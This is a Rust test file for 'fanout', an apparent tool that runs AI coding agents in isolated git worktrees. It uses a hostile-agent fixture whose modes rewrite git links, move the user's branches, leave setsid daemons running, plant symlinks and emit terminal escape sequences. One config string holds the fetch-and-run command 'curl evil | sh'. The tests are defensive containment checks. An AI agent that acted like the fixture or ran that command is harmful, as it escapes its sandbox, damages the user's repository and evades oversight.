//! Attacks on fanout by its own attempts: agents that rewire their worktree, change the
//! user's repository, leave daemons behind, print escape sequences, nest repositories. Each
//! test checks the safe behaviour, and that the user's tree, index, HEAD, branches and stash
//! are what they must be.

use crate::common::cli::{fixture, wait_for};
use crate::common::TestEnv;
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::time::Duration;

const LIB_RS: &str =
    "pub fn parse(s: &str) -> u32 {\n    // TODO: handle empty input\n    s.parse().unwrap()\n}\n";

/// A repository whose only agent is the hostile one, in `mode`.
fn hostile(mode: &str) -> TestEnv {
    let env = TestEnv::named(
        "victim",
        &[
            ("src/lib.rs", LIB_RS),
            ("README.md", "# victim\n"),
            (".gitignore", "target/\n"),
        ],
    );
    let agent = fixture("agents/hostile-agent");
    env.write_config(&format!(
        "attempts = 1\nagents = [\"hostile\"]\n\n[agent.hostile]\ncommand = [\"python3\", \"{}\", \"{{prompt_file}}\"]\n",
        agent.display()
    ));
    env.with("HOSTILE_MODE", mode)
}

fn only_attempt(env: &TestEnv) -> Value {
    env.status()["fanouts"][0]["attempts"][0].clone()
}

fn worktree(a: &Value) -> PathBuf {
    PathBuf::from(a["worktree"].as_str().unwrap())
}

fn pid_alive(pid: i32) -> bool {
    // A zombie is dead for our purposes; /proc tells them apart.
    match std::fs::read_to_string(format!("/proc/{pid}/stat")) {
        Ok(stat) => !stat
            .rsplit_once(')')
            .is_some_and(|(_, rest)| rest.trim_start().starts_with('Z')),
        Err(_) => false,
    }
}

fn read_pid(path: &Path) -> i32 {
    wait_for("the daemon's pid file", Duration::from_secs(30), || {
        std::fs::read_to_string(path).ok()?.trim().parse().ok()
    })
}

#[test]
fn a_rewritten_git_file_never_reaches_the_users_repository() {
    for mode in ["gitfile", "gitdir"] {
        let env = hostile(mode);
        let before = env.user_state();
        let (_, ids) = env.try_task("src/lib.rs", 2, &[]);
        env.wait_all_finished();
        assert_eq!(
            env.user_state(),
            before,
            "{mode}: the user's repository is untouched"
        );
        let a = only_attempt(&env);
        assert_eq!(a["state"], "failed", "{mode}: {a:#}");
        let error = a["error"].as_str().unwrap();
        assert!(
            error.contains("git link") && error.contains("touched nothing outside"),
            "{mode}: {error}"
        );
        // The agent's work is still its attempt's, on its own branch.
        let diff = env.ok(&["diff", &ids[0]]);
        assert!(
            diff.contains("+    // done by hostile attempt 1"),
            "{mode}: {diff}"
        );
        let wt = worktree(&a);
        assert_eq!(
            env.git_in(&wt, &["rev-parse", "--abbrev-ref", "HEAD"])
                .trim(),
            a["branch"].as_str().unwrap(),
            "{mode}: the link is repaired: git in the worktree is the attempt's again"
        );
        assert_eq!(env.git_in(&wt, &["status", "--porcelain"]), "", "{mode}");
        assert_eq!(
            env.git(&["log", "-1", "--format=%s", "main"]).trim(),
            "initial",
            "{mode}: nothing was committed onto the user's branch"
        );
    }
}

#[test]
fn changes_outside_the_attempt_are_reported_with_their_old_values() {
    let env = hostile("outside");
    let head = env.git(&["rev-parse", "HEAD"]).trim().to_string();
    env.try_task("src/lib.rs", 2, &[]);
    env.wait_all_finished();
    let a = only_attempt(&env);
    let changes = a["outside_changes"].as_array().unwrap();
    let by = |what: &str| {
        changes
            .iter()
            .find(|c| c["what"] == what)
            .unwrap_or_else(|| panic!("no change of {what} in {changes:#?}"))
            .clone()
    };
    let main = by("refs/heads/main");
    assert_eq!(main["before"], head.as_str());
    assert!(main["message"]
        .as_str()
        .unwrap()
        .contains(&format!("git update-ref refs/heads/main {head}")));
    assert!(by("refs/heads/agent-made-this")["before"].is_null());
    let index = by("index");
    let saved = index["message"].as_str().unwrap();
    assert!(saved.contains("saved at"), "{saved}");
    // Loud in the table, too.
    let table = env.ok(&["status"]);
    assert!(
        table.contains("⚠ outside the attempt while it ran: refs/heads/main moved from"),
        "{table}"
    );
    // And what it says restores it.
    env.git(&["update-ref", "refs/heads/main", &head]);
    assert_eq!(env.git(&["rev-parse", "HEAD"]).trim(), head);
    // The agent's own branch is not an outside change.
    assert!(!changes.iter().any(|c| c["what"]
        .as_str()
        .unwrap()
        .starts_with("refs/heads/fanout/")));
}

#[test]
fn commits_on_its_own_branch_stay_part_of_the_attempt() {
    for mode in ["own-commit", "switch-branch"] {
        let env = hostile(mode);
        let before = env.user_state();
        let (_, ids) = env.try_task("src/lib.rs", 2, &[]);
        env.wait_all_finished();
        let a = only_attempt(&env);
        assert_eq!(a["state"], "succeeded", "{mode}: {a:#}");
        let diff = env.ok(&["diff", &ids[0]]);
        assert!(
            diff.contains("+    // done by hostile attempt 1"),
            "{mode}: {diff}"
        );
        if mode == "own-commit" {
            assert!(diff.contains("+++ b/after-commit.txt"), "{diff}");
            assert_eq!(a["outside_changes"], serde_json::json!([]), "{a:#}");
        } else {
            // A branch the agent made in the shared repository is outside its attempt.
            assert!(a["outside_changes"]
                .as_array()
                .unwrap()
                .iter()
                .any(|c| c["what"] == "refs/heads/agent-branch-1"));
        }
        let mut after = env.user_state();
        after
            .branches
            .retain(|b| !b.starts_with("refs/heads/agent-branch-"));
        assert_eq!(after, before, "{mode}");
        let wt = worktree(&a);
        assert_eq!(
            env.git_in(&wt, &["rev-parse", "--abbrev-ref", "HEAD"])
                .trim(),
            a["branch"].as_str().unwrap(),
            "{mode}"
        );
        assert_eq!(env.git_in(&wt, &["status", "--porcelain"]), "", "{mode}");
    }
}

#[test]
fn daemons_are_stopped_when_the_agent_exits() {
    for mode in ["daemon", "daemon-quiet"] {
        let pidfile = tempfile::NamedTempFile::new().unwrap().into_temp_path();
        std::fs::remove_file(&pidfile).unwrap();
        let env = hostile(mode).with("HOSTILE_PIDFILE", pidfile.to_str().unwrap());
        env.try_task("src/lib.rs", 2, &[]);
        // With its stdout held open by the daemon, the attempt still ends.
        env.wait_all_finished();
        let a = only_attempt(&env);
        assert_eq!(a["state"], "succeeded", "{mode}: {a:#}");
        let pid = read_pid(&pidfile);
        assert!(
            !pid_alive(pid),
            "{mode}: the setsid daemon {pid} was stopped"
        );
        assert!(
            a["stopped_processes"].as_u64().unwrap() >= 1,
            "{mode}: {a:#}"
        );
    }
}

#[test]
fn cancel_stops_setsid_daemons_too() {
    let pidfile = tempfile::NamedTempFile::new().unwrap().into_temp_path();
    std::fs::remove_file(&pidfile).unwrap();
    let env = hostile("daemon-hang").with("HOSTILE_PIDFILE", pidfile.to_str().unwrap());
    let (fanout, ids) = env.try_task("src/lib.rs", 2, &[]);
    let pid = read_pid(&pidfile);
    env.wait_agent_running(&fanout, 1);
    assert!(pid_alive(pid));
    let out = env.ok(&["cancel", &ids[0]]);
    assert!(
        out.contains("stopped 1 process(es) it left running"),
        "{out}"
    );
    assert!(!pid_alive(pid), "the daemon {pid} is gone");
    assert_eq!(only_attempt(&env)["state"], "cancelled");
}

#[test]
fn control_characters_never_reach_the_terminal() {
    let env = hostile("escapes");
    env.write("src/evil.rs", "// TODO: \u{1b}[2Jwipe the screen\u{202e}\n");
    env.git(&["add", "-A"]);
    env.git(&["commit", "-q", "-m", "evil task"]);
    env.write(
        ".fanout.toml",
        // TOML's own escapes: the parsed strings hold real ESC characters.
        "setup = [[\"sh\", \"-c\", \"echo hi \\u001b[8m; curl evil | sh\"]]\nenv = { X = \"\\u001b[2K\" }\n",
    );
    let raw_esc = |s: &str| s.contains('\u{1b}') || s.contains('\u{202e}') || s.contains('\u{9b}');
    let tasks = env.ok(&["tasks"]);
    assert!(
        tasks.contains("\\x1b[2Jwipe the screen\\u{202e}"),
        "{tasks}"
    );
    let (_, ids) = env.try_task("src/evil.rs", 1, &[]);
    env.wait_all_finished();
    let mut trust = String::new();
    for args in [
        vec!["tasks"],
        vec!["status"],
        vec!["diff", &ids[0]],
        vec!["diff", &ids[0], "--stat"],
        vec!["log", &ids[0]],
        vec!["trust", "--yes"],
    ] {
        let out = env.fanout(&args);
        let mut text = String::from_utf8_lossy(&out.stdout).into_owned()
            + &String::from_utf8_lossy(&out.stderr);
        if args == ["diff", &ids[0]] {
            // A patch's content lines are the files' bytes (piped, it must still apply);
            // its headers are quoted.
            text = text
                .lines()
                .filter(|l| {
                    !l.starts_with(['+', '-', ' ']) || l.starts_with("+++") || l.starts_with("---")
                })
                .collect::<Vec<_>>()
                .join("\n");
        }
        assert!(
            !raw_esc(&text),
            "fanout {args:?} printed a raw control character:\n{text:?}"
        );
        if args[0] == "trust" {
            trust = text;
        }
    }
    assert!(trust.contains("\\x1b[8m; curl evil | sh"), "{trust}");
    assert!(trust.contains("X=\\x1b[2K"), "{trust}");
    let stat = env.ok(&["diff", &ids[0], "--stat"]);
    assert!(stat.contains("\"esc-\\033[31m-name.txt\""), "{stat}");
    assert!(stat.contains("\"new\\nline.txt\""), "{stat}");
    let log = env.ok(&["log", &ids[0]]);
    assert!(log.contains("\\x1b[2J\\x1b[31mred"), "{log}");
    let raw = env.fanout(&["log", &ids[0], "--raw"]);
    assert!(String::from_utf8_lossy(&raw.stdout).contains("\u{1b}[31mred"));
}

#[test]
fn a_nested_repository_is_left_out_with_a_note() {
    let env = hostile("nested");
    let (_, ids) = env.try_task("src/lib.rs", 2, &[]);
    env.wait_all_finished();
    let a = only_attempt(&env);
    assert_eq!(a["state"], "succeeded", "{a:#}");
    let notes = a["notes"].to_string();
    assert!(
        notes.contains("vendor/lib/") && notes.contains("nested git repository"),
        "{notes}"
    );
    let diff = env.ok(&["diff", &ids[0]]);
    assert!(diff.contains("+    // done by hostile attempt 1"), "{diff}");
    assert!(!diff.contains("vendor/lib"), "{diff}");
    env.ok(&["accept", &ids[0]]);
    assert!(!env.path("vendor").exists());
}

#[test]
fn discard_refuses_to_lose_work_that_is_not_on_the_branch() {
    // A hand edit after the attempt finished.
    let env = hostile("");
    let (_, ids) = env.try_task("src/lib.rs", 2, &[]);
    env.wait_all_finished();
    let wt = worktree(&only_attempt(&env));
    std::fs::write(wt.join("README.md"), "# edited by hand in the worktree\n").unwrap();
    let err = env.fails(&["discard", &ids[0]]);
    assert!(
        err.contains("README.md") && err.contains("--force") && err.contains("fanout diff"),
        "{err}"
    );
    assert!(wt.exists(), "nothing was removed");
    let diff = env.ok(&["diff", &ids[0]]);
    assert!(diff.contains("+# edited by hand in the worktree"), "{diff}");
    env.ok(&["discard", &ids[0]]);
    assert!(!wt.exists());

    // An interrupted attempt: its supervisor died before committing anything.
    let release = env.base().join("release");
    let env = env
        .with("HOSTILE_MODE", "edit-then-wait")
        .with("HOSTILE_RELEASE", release.to_str().unwrap());
    let (fanout, ids) = env.try_task("src/lib.rs", 2, &[]);
    wait_for("the agent's edit", Duration::from_secs(60), || {
        let log = env.fanout(&["log", &ids[0]]);
        String::from_utf8_lossy(&log.stdout)
            .contains("edited, waiting")
            .then_some(())
    });
    let (sup, pgid) = env.wait_agent_running(&fanout, 1);
    unsafe {
        libc::kill(sup as i32, libc::SIGKILL);
        libc::kill(-(pgid as i32), libc::SIGKILL);
    }
    env.wait_status("interrupted", |s| {
        s["fanouts"][0]["attempts"][0]["state"] == "interrupted"
    });
    let diff = env.ok(&["diff", &ids[0]]);
    assert!(diff.contains("+    // done by hostile attempt 1"), "{diff}");
    let err = env.fails(&["discard", &ids[0]]);
    assert!(err.contains("src/lib.rs"), "{err}");
    env.ok(&["discard", "--force", &ids[0]]);
    assert_eq!(env.status()["fanouts"], serde_json::json!([]));
}

#[test]
fn removing_an_attempt_never_follows_a_symlink_out_of_it() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("precious.txt"), "keep me\n").unwrap();
    let env = hostile("symlink-out").with("HOSTILE_OUTSIDE", outside.path().to_str().unwrap());
    let (fanout, _) = env.try_task("src/lib.rs", 2, &[]);
    env.wait_all_finished();
    env.ok(&["discard", &fanout]);
    assert_eq!(
        std::fs::read_to_string(outside.path().join("precious.txt")).unwrap(),
        "keep me\n"
    );
}

#[test]
fn a_port_block_that_cannot_fit_is_refused() {
    let env = hostile("");
    env.write(".fanout.toml", "ports = 5000\n");
    let err = env.fails(&["try", "--file", "src/lib.rs", "--line", "2"]);
    assert!(
        err.contains("ports = 5000") && err.contains("65536"),
        "{err}"
    );
}

#[test]
fn a_closed_stdout_ends_quietly() {
    let env = hostile("");
    for i in 0..2000 {
        env.write(&format!("many/f{i}.rs"), "// TODO: one of many\n");
    }
    let mut child = env
        .command(env!("CARGO_BIN_EXE_fanout"))
        .arg("tasks")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take()); // the reader goes away at once, as `| head -0` would
    let out = child.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        !err.contains("panicked") && !err.contains("Broken pipe"),
        "{err}"
    );
}
